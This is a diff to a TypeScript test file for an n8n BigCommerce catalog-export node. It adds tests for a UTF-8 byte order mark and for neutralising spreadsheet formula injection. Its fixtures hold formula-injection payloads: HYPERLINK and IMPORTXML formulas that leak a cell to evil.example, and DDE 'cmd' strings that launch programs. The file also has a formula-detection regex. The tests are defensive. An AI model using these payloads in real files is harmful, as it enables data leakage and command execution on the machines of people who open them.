@@ -1,6 +1,7 @@
 import { NodeOperationError, sleep } from 'n8n-workflow';
 
 import { startSandbox, type Json, type SandboxHandle } from '../../helpers/sandbox';
+import { csvCell } from '../../../nodes/BigCommerce/actions/product/exportCatalog.operation';
 import { runNode, runNodeError } from './helpers';
 
 const base = { resource: 'product', operation: 'exportCatalog', simplify: true };
@@ -81,7 +82,10 @@ describe('Product → Export Catalog (600 products)', () => {
 		const file = summary.binary?.data as Json;
 		expect(file.mimeType).toBe('text/csv');
 		expect(file.fileName).toMatch(/^catalog-export-.*\.csv$/);
-		const lines = Buffer.from(file.data, 'base64').toString('utf8').trim().split('\n');
+		const bytes = Buffer.from(file.data, 'base64');
+		// the UTF-8 byte order mark comes first (on by default), then the header
+		expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+		const lines = bytes.subarray(3).toString('utf8').trim().split('\n');
 		expect(lines[0]).toMatch(/^id,name,sku,type,price/);
 		expect(lines).toHaveLength(onChannel2.length + 1);
 		expect(lines[1].startsWith(`${onChannel2[0].id},`)).toBe(true);
@@ -112,6 +116,7 @@ describe('Product → Export Catalog (600 products)', () => {
 	it.each([
 		[{ channelIds: 'one' }, /"Channel IDs" must be a comma-separated list/],
 		[{ fileFormat: 'csv', binaryProperty: 'bad name' }, /"Binary Property" must be a name/],
+		[{ fileFormat: 'csv', addBom: 'no' }, /"Add Byte Order Mark \(BOM\)" must be true or false; got "no"/],
 	])('rejects %j before any request', async (options, message) => {
 		const { error, requests } = await runNodeError(sandbox, { ...base, options });
 		expect(error).toBeInstanceOf(NodeOperationError);
@@ -261,5 +266,141 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		expect(requests[0].query.page).toBe('1');
 		expect(requests.slice(1).map((r) => r.query.page).sort()).toEqual(['2', '3', '4', '5']);
 		expect(maxInFlight).toBe(4);
+	});
+});
+
+/** Splits CSV text (RFC 4180: quoted cells, "" inside quotes) into rows of cells. */
+function parseCsv(text: string): string[][] {
+	const rows: string[][] = [];
+	let row: string[] = [];
+	let cell = '';
+	let quoted = false;
+	for (let at = 0; at < text.length; at++) {
+		const char = text[at];
+		if (quoted) {
+			if (char === '"' && text[at + 1] === '"') {
+				cell += '"';
+				at++;
+			} else if (char === '"') quoted = false;
+			else cell += char;
+		} else if (char === '"') quoted = true;
+		else if (char === ',') {
+			row.push(cell);
+			cell = '';
+		} else if (char === '\n') {
+			row.push(cell);
+			rows.push(row);
+			row = [];
+			cell = '';
+		} else cell += char;
+	}
+	if (cell !== '' || row.length) rows.push([...row, cell]);
+	return rows;
+}
+
+describe('Product → Export Catalog: a CSV that is safe to open in a spreadsheet', () => {
+	let sandbox: SandboxHandle;
+	beforeAll(async () => {
+		sandbox = await startSandbox({ seed: { products: 3 } });
+	});
+	afterAll(async () => sandbox.close());
+
+	/** Creates a product through the API (as a catalog editor or a feed import would). */
+	const createProduct = async (product: Json): Promise<number> => {
+		const answer = await fetch(`${sandbox.apiPath('v3')}/catalog/products`, {
+			method: 'POST',
+			headers: { 'X-Auth-Token': sandbox.accessToken, 'Content-Type': 'application/json', Accept: 'application/json' },
+			body: JSON.stringify({ type: 'physical', weight: 1, price: 10, ...product }),
+		});
+		expect(answer.status).toBe(200);
+		return ((await answer.json()) as Json).data.id;
+	};
+	/** Runs the export with a CSV file; returns the raw bytes and the parsed rows keyed by column. */
+	const exportCsv = async (options: Json = {}) => {
+		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'csv', ...options } });
+		const summary = out[out.length - 1];
+		const bytes = Buffer.from((summary.binary?.data as Json).data, 'base64');
+		const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
+		const [header, ...rows] = parseCsv(text);
+		const byId = new Map<number, Record<string, string>>();
+		for (const cells of rows) {
+			expect(cells).toHaveLength(header.length);
+			byId.set(Number(cells[0]), Object.fromEntries(header.map((column, at) => [column, cells[at]])));
+		}
+		return { out, bytes, header, byId };
+	};
+
+	/** Hostile catalog text, and the description cell expected (the description is exported as plain text). */
+	const HOSTILE = [
+		{ name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")', sku: '=1+1', description: "<p>=cmd|' /C calc'!A0</p>", csvDescription: "'=cmd|' /C calc'!A0" },
+		{ name: "+SUM(1+1)*cmd|' /C notepad'!A0", sku: '+44-SKU', description: '<p>+1 great product</p>', csvDescription: "'+1 great product" },
+		{ name: "-2+3+cmd|' /C calc'!A0", sku: '-5', description: '-10% off today', csvDescription: "'-10% off today" },
+		{ name: '@SUM(1+1)', sku: '@SKU', description: '<ul><li>a list first</li></ul>', csvDescription: "'- a list first" },
+		{ name: '\t=1+1 tabbed', sku: '\tTAB-1', description: '<p>&#61;1+1 (an entity)</p>', csvDescription: "'=1+1 (an entity)" },
+		{ name: '\r=1+1 carriage return', sku: '\rCR-SKU', description: '\r\n=2+2 after a line break', csvDescription: "'=2+2 after a line break" },
+		{ name: '   =1+1 after spaces', sku: '\uFF1D1+1', description: '＠fullwidth at', csvDescription: "'＠fullwidth at" },
+	];
+
+	it('neutralises text cells that start like a formula (names, SKUs, variant SKUs, descriptions); numbers stay as they are', async () => {
+		const ids: number[] = [];
+		for (const { name, sku, description } of HOSTILE) {
+			ids.push(await createProduct({ name, sku, description, custom_fields: [{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' }] }));
+		}
+		const { byId, out } = await exportCsv();
+		const stored = (id: number) => (sandbox.state.catalog.products as Map<number, Json>).get(id);
+		/** What a neutralised cell holds: a single quote, then the text (line breaks as spaces). */
+		const neutralised = (text: string) => `'${text.replace(/\s*[\r\n]+\s*/g, ' ')}`;
+		for (const [at, id] of ids.entries()) {
+			const row = byId.get(id) as Record<string, string>;
+			const item = out.find((entry) => entry.json.id === id)?.json as Json;
+			expect(row.name).toBe(neutralised(HOSTILE[at].name));
+			expect(row.sku).toBe(neutralised(HOSTILE[at].sku));
+			expect(row.description).toBe(HOSTILE[at].csvDescription);
+			// the base variant carries the product's SKU
+			expect(row.variant_skus).toBe(neutralised(HOSTILE[at].sku));
+			// numbers untouched
+			expect(row.id).toBe(String(id));
+			expect(row.price).toBe(String(stored(id).price));
+			expect(row.inventory_level).toBe(String(stored(id).inventory_level));
+			// no cell of the row starts like a formula any more
+			for (const [column, cell] of Object.entries(row)) {
+				expect({ column, formula: /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.trimStart()) }).toEqual({ column, formula: false });
+			}
+			// the items themselves keep BigCommerce's values (only the file is neutralised)
+			expect(item.name).toBe(HOSTILE[at].name);
+			expect(item.sku).toBe(HOSTILE[at].sku);
+		}
+		// ordinary text is not touched
+		const plain = byId.get(1) as Record<string, string>;
+		expect(plain.name).toBe(stored(1).name);
+		expect(plain.name.startsWith("'")).toBe(false);
+	});
+
+	it('a cell holding a number (a price of -5, category IDs) is written as the number; the same text is neutralised', () => {
+		expect([csvCell(-5), csvCell(-0.5), csvCell([-1, 2]), csvCell(true), csvCell(null)]).toEqual(['-5', '-0.5', '-1;2', 'true', '']);
+		expect([csvCell('-5'), csvCell(['=A1', 'B']), csvCell('+1, or "more"')]).toEqual(["'-5", "'=A1;B", `"'+1, or ""more"""`]);
+	});
+
+	it('JSON Lines is left as it is (hostile names and custom fields included)', async () => {
+		const id = await createProduct({ name: '=2+5 jsonl', sku: '@JSONL', custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }] });
+		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'jsonl' } });
+		const summary = out[out.length - 1];
+		const bytes = Buffer.from((summary.binary?.data as Json).data, 'base64');
+		expect(bytes[0]).toBe('{'.charCodeAt(0));
+		const row = bytes.toString('utf8').trim().split('\n').map((line) => JSON.parse(line)).find((p) => p.id === id);
+		expect(row).toMatchObject({ name: '=2+5 jsonl', sku: '@JSONL', custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }] });
+	});
+
+	it('starts the CSV with a UTF-8 byte order mark by default, so accented names open correctly; the option turns it off', async () => {
+		const id = await createProduct({ name: 'Crème brûlée façon Müller – Ñandú', sku: 'ÉTÉ-1' });
+		const withBom = await exportCsv();
+		expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+		expect(withBom.bytes.subarray(3, 6).toString('utf8')).toBe('id,');
+		expect(withBom.byId.get(id)).toMatchObject({ name: 'Crème brûlée façon Müller – Ñandú', sku: 'ÉTÉ-1' });
+		const withoutBom = await exportCsv({ addBom: false });
+		expect(withoutBom.bytes.subarray(0, 3).toString('utf8')).toBe('id,');
+		expect(withoutBom.byId.get(id)).toMatchObject({ name: 'Crème brûlée façon Müller – Ñandú' });
+		// the same file apart from the mark (and the export's timestamps, which are not in the CSV)
+		expect(withBom.bytes.subarray(3).equals(withoutBom.bytes)).toBe(true);
 	});
 });
